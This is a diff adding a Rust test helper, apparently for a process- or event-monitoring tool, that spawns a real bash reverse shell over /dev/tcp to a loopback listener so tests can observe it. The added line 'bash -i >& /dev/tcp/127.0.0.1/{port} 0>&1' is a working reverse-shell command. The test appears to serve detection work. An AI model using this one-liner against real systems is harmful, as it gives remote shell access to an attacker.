@@ -406,6 +406,23 @@ pub fn pid_of(e: &Event) -> u32 {
     e.process.as_ref().map_or(0, |p| p.pid)
 }
 
+/// A real reverse shell: `bash -i` with its stdio on a TCP connection to a loopback
+/// listener of the test. Returns the shell (`bash -c`), the attacker's end of the
+/// connection, and the listener's port.
+pub fn dev_tcp_reverse_shell() -> (Child, std::net::TcpStream, u16) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let shell = Command::new("/bin/bash")
+        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (conn, _) = listener.accept().unwrap();
+    (shell, conn, port)
+}
+
 /// Loads a two-instruction socket filter (`r0 = 0; exit`) named `name` and closes it;
 /// returns the descriptor number the load returned.
 pub fn load_bpf(name: &[u8]) -> i64 {
